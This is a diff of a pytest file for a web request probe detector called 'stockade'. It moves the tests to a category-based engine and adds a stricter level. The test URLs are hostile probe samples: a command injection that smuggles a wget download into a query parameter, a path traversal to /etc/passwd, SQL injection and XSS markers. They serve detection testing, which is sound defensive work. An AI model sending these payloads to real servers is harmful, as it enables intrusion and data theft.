@@ -9,12 +9,13 @@ import pytest
 
 from stockade.conditions import compile_condition
 from stockade.conditions.ruleset import RuleList
-from stockade.core import detection
-from stockade.core.detection import BUILTIN, BUILTIN_NAMES, Detector, builtin_rules
+from stockade.core.detection import BUILTIN, BUILTIN_NAMES, LEGACY_NAMES, Detector, builtin_rules
 from stockade.core.facts import RequestFacts
+from stockade.detection import CATEGORIES, Engine, Settings
 
 DATA = Path(__file__).resolve().parents[1] / "data"
-DETECTOR = Detector(BUILTIN)
+DETECTOR = Detector()
+PARANOID = Detector(Engine(Settings(level=4)))
 
 
 def facts_of(url: str) -> RequestFacts:
@@ -38,29 +39,37 @@ def test_no_ordinary_url_of_real_sites_counts_as_malicious() -> None:
 def test_every_probe_is_recognised() -> None:
     probes = urls("probe_urls.txt")
     assert len(probes) >= 200
-    missed = [url for url in probes if DETECTOR.detect(facts_of(url)) is None]
+    # Level 4 adds script_extensions: every .php or .aspx page (see test_script_pages_need_level_four).
+    missed = [url for url in probes if PARANOID.detect(facts_of(url)) is None]
     assert missed == []
 
 
+def test_script_pages_need_level_four() -> None:
+    for url in ("/index.php", "/default.aspx", "/FOO.PHP", "/page.phtml"):
+        assert DETECTOR.detect(facts_of(url)) is None, url
+        assert PARANOID.detect(facts_of(url)) == "script_extensions", url
+
+
 @pytest.mark.parametrize(
-    ("url", "rule"),
+    ("url", "category"),
     [
-        ("/.env", "env_file"),
-        ("/.git/config", "vcs_metadata"),
-        ("/.htpasswd", "secret_files"),
-        ("/.vscode/settings.json", "dotfiles"),
-        ("/index.php.bak", "backup_files"),
-        ("/wp-login.php", "cms_admin"),
-        ("/shell.php", "script_extensions"),
+        ("/.env", "sensitive_files"),
+        ("/.git/config", "sensitive_files"),
+        ("/.htpasswd", "sensitive_files"),
+        ("/.vscode/settings.json", "sensitive_files"),
+        ("/index.php.bak", "sensitive_files"),
+        ("/wp-login.php", "admin_cms"),
         ("/a/..%2f..%2fb", "path_traversal"),
-        ("/read?f=/etc/passwd", "system_files"),
-        ("/?c=;wget%20x", "shell_injection"),
+        ("/read?f=/etc/passwd", "path_traversal"),
+        ("/?c=;wget%20http://x/a.sh", "command_injection"),
         ("/?id=1%20union%20select%20null,null", "sql_injection"),
-        ("/?q=%3Cscript%3E", "xss_markers"),
+        ("/?q=%3Cscript%3E", "xss"),
     ],
 )
-def test_each_rule_names_its_probes(url: str, rule: str) -> None:
-    assert DETECTOR.detect(facts_of(url)) == rule
+def test_each_category_names_its_probes(url: str, category: str) -> None:
+    finding = DETECTOR.inspect(facts_of(url))
+    assert finding is not None
+    assert category in finding.categories
 
 
 def test_case_and_encodings_hide_nothing() -> None:
@@ -70,8 +79,7 @@ def test_case_and_encodings_hide_nothing() -> None:
 
 def test_well_known_is_not_a_dotfile() -> None:
     assert DETECTOR.detect(facts_of("/.well-known/acme-challenge/abc")) is None
-    # The match that starts first names the request: here the traversal, before the .env.
-    assert DETECTOR.detect(facts_of("/.well-known/../.env")) == "path_traversal"
+    assert DETECTOR.detect(facts_of("/.well-known/../.env")) is not None
     assert DETECTOR.detect(facts_of("/.well-known/.env")) == "env_file"
 
 
@@ -79,7 +87,7 @@ def test_a_real_route_is_never_counted_by_the_probe_rules() -> None:
     assert DETECTOR.detect(facts_of("/admin.php"), known_route=True) is None
     assert DETECTOR.detect(facts_of("/backup.zip"), known_route=True) is None
     # Injection and traversal are evidence on any route.
-    assert DETECTOR.detect(facts_of("/admin.php?id=1%20or%201=1"), known_route=True) == "sql_injection"
+    assert DETECTOR.detect(facts_of("/admin.php?id=1%20or%201=1"), known_route=True) == "sqli_tokens"
     assert DETECTOR.detect(facts_of("/files/..%2f..%2fsecret"), known_route=True) == "path_traversal"
 
 
@@ -94,12 +102,18 @@ def test_user_rules_in_the_condition_language() -> None:
 
 def test_rule_selection() -> None:
     assert builtin_rules(["builtin"]) == BUILTIN
-    assert [r.name for r in builtin_rules(["sql_injection", "env_file"])] == ["env_file", "sql_injection"]
+    chosen = [r.id for r in builtin_rules(["sqli_tokens", "env_file"])]
+    assert chosen == ["env_file", "sqli_tokens"]
+    assert {r.category for r in builtin_rules(["xss"])} == {"xss"}
+    # The first pack's names choose the rules that took their place.
+    for name, ids in LEGACY_NAMES.items():
+        assert set(ids) <= set(BUILTIN_NAMES), name
+    assert [r.id for r in builtin_rules(["shell_injection"])] == list(LEGACY_NAMES["shell_injection"])
     with pytest.raises(ValueError, match="unknown rule 'nope'"):
         builtin_rules(["nope"])
     assert len(set(BUILTIN_NAMES)) == len(BUILTIN_NAMES)
     for rule in BUILTIN:
-        assert rule.label
+        assert rule.category in CATEGORIES
         assert rule.description.endswith(".") or rule.description.endswith(")")
 
 
@@ -123,27 +137,24 @@ def test_the_public_routes_of_the_example_apps_are_never_malicious() -> None:
         assert DETECTOR.detect(facts_of(path + "?next=/admin/"), known_route=True) is None, path
 
 
-def test_the_memo_answers_as_the_scan_does_and_stays_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(detection, "_CACHE_ENTRIES", 8)
-    detector = Detector(BUILTIN)
+def test_the_memo_answers_as_a_fresh_engine_does_and_stays_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
+    from stockade.detection import engine as engine_module  # noqa: PLC0415
+
+    monkeypatch.setattr(engine_module, "_MEMO_ENTRIES", 8)
+    detector = Detector()
     mixed = [*urls("ordinary_urls.txt")[:20], *urls("probe_urls.txt")[:20]]
     first = [detector.detect(facts_of(url)) for url in mixed]
     again = [detector.detect(facts_of(url)) for url in mixed]
-    assert first == again == [Detector(BUILTIN)._scan(f.uri, f.path, f.query, False) for f in map(facts_of, mixed)]
-    assert len(detector._seen) <= 8
-    # Known routes have an answer of their own for the same URL.
-    assert detector.detect(facts_of("/admin.php")) == "script_extensions"
-    assert detector.detect(facts_of("/admin.php"), known_route=True) is None
-    # Long URLs are scanned every time, never kept.
-    long_url = "/search?q=" + "a" * 600
-    assert detector.detect(facts_of(long_url)) is None
-    assert all(len(key[0]) < 600 for key in detector._seen)
+    assert first == again == [Detector().detect(facts_of(url)) for url in mixed]
+    assert len(detector.engine._memo) <= 8
+    assert detector.detect(facts_of("/backup.zip")) == "backup_archive"
+    assert detector.detect(facts_of("/backup.zip"), known_route=True) is None
 
 
 def test_user_rules_are_asked_even_when_the_url_is_remembered() -> None:
-    custom = RuleList([("tool", compile_condition('req_ua_regmatch("(?i)sqlmap")'))])
-    detector = Detector(BUILTIN, custom)
+    custom = RuleList([("tool", compile_condition('req_ua_regmatch("(?i)^curl/")'))])
+    detector = Detector(None, custom)
     clean = RequestFacts(path="/", uri="/", headers=[("User-Agent", "Mozilla/5.0")])
-    tool = RequestFacts(path="/", uri="/", headers=[("User-Agent", "sqlmap/1.7")])
+    tool = RequestFacts(path="/", uri="/", headers=[("User-Agent", "curl/8.5.0")])
     assert detector.detect(clean) is None
     assert detector.detect(tool) == "tool"
